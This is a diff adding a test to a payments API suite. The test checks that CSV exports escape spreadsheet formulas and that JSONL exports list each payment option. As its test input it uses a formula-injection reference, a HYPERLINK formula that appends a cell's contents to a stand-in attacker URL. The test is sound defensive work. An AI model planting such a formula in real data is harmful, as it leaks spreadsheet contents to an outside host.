@@ -284,6 +284,46 @@ describe('a price', () => {
     await expectRefusal(post({ price: { ...price, amount: '49.91' } }, headers), 409, /another request/);
   });
 
+  it('is exported, as CSV that no spreadsheet takes for formulas or as JSON, a line for each option', async () => {
+    const reference = '=HYPERLINK("https://evil.example?"&A1,"pay")';
+    const { body: made } = await priced({ price: { amount: '8.31', currency: 'EUR' }, reference });
+    const exported = async (query: string) => {
+      const url = `${app.url}/api/v1/payments/export?${query}`;
+      const answer = await fetch(url, { headers: { authorization: `Bearer ${app.key}` } });
+      return { status: answer.status, type: answer.headers.get('content-type'), text: await answer.text() };
+    };
+    const filter = 'currency=EUR&price_min=8.31&price_max=8.31';
+    const csv = await exported(filter);
+    expect(csv).toMatchObject({ status: 200, type: 'text/csv; charset=utf-8' });
+    const [head, ...lines] = csv.text.trimEnd().split('\r\n');
+    expect(head?.split(',')).toEqual(
+      expect.arrayContaining(['price_amount', 'price_currency', 'amount', 'rate', 'value_received']),
+    );
+    expect(lines).toHaveLength(made.options.length);
+    expect(lines.every((line) => line.includes(`,"'=HYPERLINK(""https:`))).toBe(true);
+    const asJson = await exported(`${filter}&format=jsonl`);
+    const rows = asJson.text
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(rows.map(({ option, symbol, amount }) => [option, symbol, amount])).toEqual(
+      made.options.map(({ symbol, amount }, index) => [index + 1, symbol, amount]),
+    );
+    expect(rows[0]).toMatchObject({
+      payment_id: made.id,
+      reference,
+      price_amount: '8.31',
+      price_currency: 'EUR',
+      rate: '3000',
+      value_received: '0.00',
+      options: made.options.length,
+    });
+    const everything = await exported('format=jsonl');
+    expect(everything.text.split('\n').length).toBeGreaterThan(rows.length + 1);
+    expect((await exported('format=xls')).status).toBe(400);
+    expect((await exported('limit=5')).status).toBe(400);
+  });
+
   it('is what payments are listed by, and the asset they show', async () => {
     const { body: made } = await priced({ price: { amount: '7.25', currency: 'EUR' }, accept: [token()] });
     const listed = async (query: string) =>
